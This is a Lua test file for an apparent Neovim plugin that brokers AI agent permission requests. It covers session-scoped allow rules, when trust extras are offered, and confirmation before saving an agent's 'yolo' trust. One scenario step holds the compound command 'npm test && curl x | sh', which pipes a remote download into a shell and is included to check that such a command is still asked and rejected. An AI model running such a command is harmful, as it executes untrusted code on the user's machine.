-- The prompt's extras answer the agent's allow_once option and remember a
-- narrow rule: "allow for this session" covers exactly that command in that
-- session, not a compound that contains it and not another session.
local T = require('helpers')
local selected = T.selected
local shell = T.shell_request

local SCENARIO = {
  name = 'remember',
  steps = {
    shell('first_${turn}', 'npm test'),
    shell('again_${turn}', 'npm test'),
    shell('chain_${turn}', 'npm test && curl x | sh'),
    { type = 'message', text = 'Done.' },
  },
}

T.test('s (allow like this for the rest of this conversation) on npm test: later npm test allowed, a compound and another session ask', function()
  local ctx = T.start_demo(SCENARIO)
  local decided = T.on('AcpPermissionDecided')
  require('acp').prompt('Test')
  local win = T.wait_prompt('first_1')
  local text = T.win_text(win)
  T.contains(text, 'allow like this for the rest of this conversation: Bash(npm test)', 'the prompt offers the extra with its rule')
  T.contains(text, '[s]', 'the key of the extra')
  T.contains(text, '[t]', 'trust this agent is offered')
  T.answer_with_keys('first_1', 's')
  -- The agent gets its own allow_once option.
  T.eq(T.answer(ctx, 'first_1').result, selected('allow'), 'the answer to the first npm test')
  T.eq(T.answer(ctx, 'again_1').result, selected('allow'), 'the second npm test, allowed from memory')
  T.wait(function()
    return #decided > 0
  end, nil, 'AcpPermissionDecided')
  T.eq(decided[1].toolCallId, 'again_1', 'decided toolCallId')
  T.eq(decided[1].by, 'memory', 'decided by')
  -- The person sees it in the message area (a burst would be one line).
  local echoed = T.wait(function()
    local m = vim.fn.execute('messages')
    return m:find('acp: allowed', 1, true) and m
  end, nil, 'the "acp: allowed" message')
  T.contains(echoed, 'acp: allowed npm test: ', 'the message names the call and why')
  -- The compound is asked: `curl x | sh` is not covered.
  T.wait_pending('chain_1')
  vim.cmd('AcpDeny')
  T.eq(T.answer(ctx, 'chain_1').result, selected('reject'), 'the answer to the compound')
  T.wait(function()
    return not require('acp').status().busy
  end, nil, 'the turn to end')

  -- Another session (another agent) does not share the memory.
  local other = {
    transcript = T.tmpname('transcript-other', '.jsonl'),
  }
  require('acp').setup({
    ui = { arm_ms = 50 },
    agents = {
      other = {
        cmd = { os.getenv('ACP_DEMO_AGENT_BIN') },
        env = { ACP_DEMO_SCENARIO = T.scenario(SCENARIO), ACP_DEMO_TRANSCRIPT = other.transcript },
      },
    },
  })
  require('acp').start('other', { cwd = ctx.project })
  T.wait(function()
    local s = require('acp').status()
    return s.agent == 'other' and s.session
  end, nil, 'the other session')
  require('acp').prompt('Test')
  T.wait_pending('first_1')
  local p = require('acp').pending()[1]
  T.eq(require('acp.state').pending[p.id].agent, 'other', 'the prompt is from the other agent')
  vim.cmd('AcpDeny!')
  T.eq(T.answer(other, 'first_1').result, selected('reject'), 'the answer in the other session')
end)

T.test('p and t are offered only with an allow_once option; the arming delay applies to them', function()
  local ctx = T.start_demo({
    name = 'no-allow-once',
    steps = {
      {
        type = 'permission',
        toolCall = { toolCallId = 'only_always_${turn}', title = 'npm test', kind = 'execute', rawInput = { command = 'npm test' } },
        options = {
          { kind = 'allow_always', name = 'Always Allow', optionId = 'allow_always' },
          { kind = 'reject_once', name = 'Reject', optionId = 'reject' },
        },
      },
      { type = 'message', text = 'Done.' },
    },
  }, { setup = { ui = { arm_ms = 400 } } })
  require('acp').prompt('Test')
  local win = T.wait_prompt('only_always_1')
  local text = T.win_text(win)
  T.ok(not text:find('allow like this', 1, true), 'no session extra without allow_once:\n' .. text)
  T.ok(not text:find('trust this agent', 1, true), 'no trust extra without allow_once')
  -- Pressed at once: ignored (arming), and not offered anyway.
  T.feed('p')
  T.wait_ms(450)
  T.feed('t')
  T.never(function()
    return T.requests(ctx, 'only_always_1')[1].response
  end, 300, 'an answer from p or t')
  T.feed('r')
  T.eq(T.answer(ctx, 'only_always_1').result, selected('reject'), 'answer')
end)

T.test('t (trust this agent) asks for confirmation: No leaves the prompt pending, Trust persists agent yolo', function()
  local ctx = T.start_demo({ name = 'trust-agent', steps = { shell('trust_${turn}', 'make deploy') } })
  local user_file = (os.getenv('XDG_CONFIG_HOME') or (os.getenv('HOME') .. '/.config')) .. '/acp-broker/settings.json'
  local answers = { 2, 1 } -- first No, then Trust
  local asked = {}
  local confirm = vim.fn.confirm
  vim.fn.confirm = function(msg)
    asked[#asked + 1] = msg
    return table.remove(answers, 1)
  end
  T.defer(function()
    vim.fn.confirm = confirm
    os.remove(user_file)
  end)
  require('acp').prompt('Deploy')
  T.wait_prompt('trust_1')
  T.answer_with_keys('trust_1', 't')
  T.eq(#asked, 1, 'confirm() calls after the first t')
  T.contains(asked[1], 'Trust ' .. ctx.agent .. ' from now on?', 'the question names the agent')
  T.wait_ms(200)
  T.eq(#require('acp').pending(), 1, 'still pending after No')
  T.eq(T.requests(ctx, 'trust_1')[1].response, nil, 'nothing answered after No')
  T.ok(not T.exists(user_file), 'nothing persisted after No')
  vim.cmd('AcpPending')
  T.answer_with_keys('trust_1', 't')
  T.eq(T.answer(ctx, 'trust_1').result, selected('allow'), 'answered allow_once after Trust')
  T.wait(function()
    return T.exists(user_file)
  end, nil, 'the user settings file')
  local saved = vim.fn.json_decode(table.concat(vim.fn.readfile(user_file), '\n'))
  T.eq(saved.agents[ctx.agent].yolo, true, 'agents.<name>.yolo in the user settings')
end)

T.done()
